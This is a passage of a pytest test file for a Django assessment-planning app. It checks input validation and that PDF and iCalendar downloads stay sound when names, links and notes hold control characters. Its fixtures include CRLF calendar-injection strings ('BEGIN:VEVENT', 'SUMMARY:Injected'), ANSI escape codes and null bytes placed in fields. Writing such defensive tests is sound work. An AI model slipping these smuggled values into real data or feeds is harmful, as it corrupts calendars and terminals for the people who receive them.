    client.force_login(make_user("root", is_staff=True, is_superuser=True))
    before = db_snapshot()
    response = client.post(reverse(url_name), dict(data, agency=agency.pk))
    assert response.status_code == 200
    assert field in response.context["adminform"].form.errors
    assert db_snapshot() == before


@pytest.mark.django_db
def test_it_refuses_a_title_with_a_line_break(team, member_client, questionnaire_version):
    before = db_snapshot()
    response = member_client.post(reverse("assessment-new", kwargs={"team_id": team.pk}), {"title": "Q1\nBEGIN"})
    page = response.content.decode()
    assert response.status_code == 400 and ERROR_SUMMARY in page and 'href="#id_title"' in page
    assert "Remove a line break at character 3" in page
    assert db_snapshot() == before


def pdf_text(response) -> str:
    """The text of a PDF response (what a reader sees), or "" for any other response."""
    import io

    from pypdf import PdfReader

    if not response.get("Content-Type", "").startswith("application/pdf"):
        return ""
    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(response.content)).pages)


# Stored before the forms refused them (or written by a script): every download still works.
STORED_NAME = "Data\r\nBEGIN:VEVENT\x1b[2J"
STORED_LINK = "https://ics.example/a\r\nBEGIN:VEVENT\r\nSUMMARY:Injected"
STORED_NOTE = "First line\r\nsecond\x07 line\x1b[31m"


@pytest.mark.django_db
def test_the_downloads_survive_control_characters_already_stored(team, member, executive, questionnaire_version):
    import datetime

    from django.utils import timezone
    from icalendar import Calendar

    from tests.urlwalk import STAFF, all_routes, route_values

    division = models.Division.objects.create(agency=team.agency, name=STORED_NAME)
    models.Team.objects.filter(pk=team.pk).update(name=STORED_NAME, division=division)
    models.Agency.objects.filter(pk=team.agency_id).update(name=STORED_NAME)
    assessment = models.Assessment.objects.create(
        team=team, questionnaire=questionnaire_version, title=STORED_NAME, created_by=member
    )
    streaming = question(questionnaire_version, "streaming-data")
    models.Answer.objects.create(
        assessment=assessment, question=streaming, kind=models.Answer.NOT_SURE, note=STORED_NOTE
    )
    action = models.Action.objects.create(
        team=team,
        questionnaire_slug=questionnaire_version.slug,
        question_key=streaming.key,
        target_level=3,
        owner_name=STORED_NAME,
        due_date=datetime.date(2027, 1, 31),
        link=STORED_LINK,
        note=STORED_NOTE,
        created_at=timezone.now(),
    )
    assessment.team.refresh_from_db()
    values = route_values(assessment, action, streaming)
    problems, downloads = [], 0
    for user in (member, executive):
        client = Client(raise_request_exception=False)
        client.force_login(user)
        for route in all_routes():
            if route.kind == STAFF or route.name in ("logout", "login") or set(route.params) - set(values):
                continue
            response = client.get(route.url(values))
            if response.status_code >= 500:
                problems.append(f"{route.name} answered {response.status_code} to {user.username}")
            elif "attachment" in response.get("Content-Disposition", ""):
                downloads += 1
                body = pdf_text(response) or response.content.decode("utf-8", errors="replace")
                if any(ch in body for ch in "\x00\x07\x1b"):
                    problems.append(f"{route.name} carries a control character")
    assert not problems, problems
    assert downloads >= 4
    client = Client()
    client.force_login(member)
    calendar = Calendar.from_ical(client.get(reverse("team-plan-ics", args=[team.pk])).content)
    [event] = calendar.walk("VEVENT")  # the link's line breaks made no event of their own
    assert "\n" not in str(calendar.get("x-wr-calname")) and "BEGIN:VEVENT" in str(calendar.get("x-wr-calname"))
    assert str(event.get("url")) == "https://ics.example/aBEGIN:VEVENTSUMMARY:Injected"
    assert "second line" in str(event.get("description"))


# --- The plan's filters ---------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query, field, expected",
    [
        ({"owner": "user:999999999999999999999999999999"}, "owner", "No action of this plan has that owner"),
        ({"owner": "name:\x00"}, "owner", "No action of this plan has that owner"),
        ({"owner": "name:" + "x" * 10_000}, "owner", "No action of this plan has that owner"),
        ({"owner": "user:-1"}, "owner", "No action of this plan has that owner"),
        ({"status": "deleted"}, "status", "Choose a status from the list"),
        ({"status": "\x00"}, "status", "Choose a status from the list"),
    ],
)
def test_it_answers_a_bad_plan_filter_with_the_error_at_the_field(planned_action, member, query, field, expected):
    client = Client(raise_request_exception=False)
    client.force_login(member)
    response = client.get(reverse("team-plan", args=[planned_action.team_id]), query)
    assert response.status_code == 400
    page = response.content.decode()
    assert f'id="filter-{field}-error"' in page and expected in page
    assert f'aria-describedby="filter-{field}-error"' in page
    assert "Check the filters below" in page


@pytest.mark.django_db
def test_it_filters_the_plan_by_an_owner_it_offers(planned_action, member):
    """The control for the refusals above: the owners the page offers do filter."""
    models.Action.objects.filter(pk=planned_action.pk).update(owner_name="Ana Outside")
    client = Client()
    client.force_login(member)
    url = reverse("team-plan", args=[planned_action.team_id])
    response = client.get(url, {"owner": "name:Ana Outside", "status": "planned"})
    assert response.status_code == 200 and "Check the filters below" not in response.content.decode()
    assert response.context["total"] == 1
    assert client.get(url, {"status": "done"}).context["total"] == 0
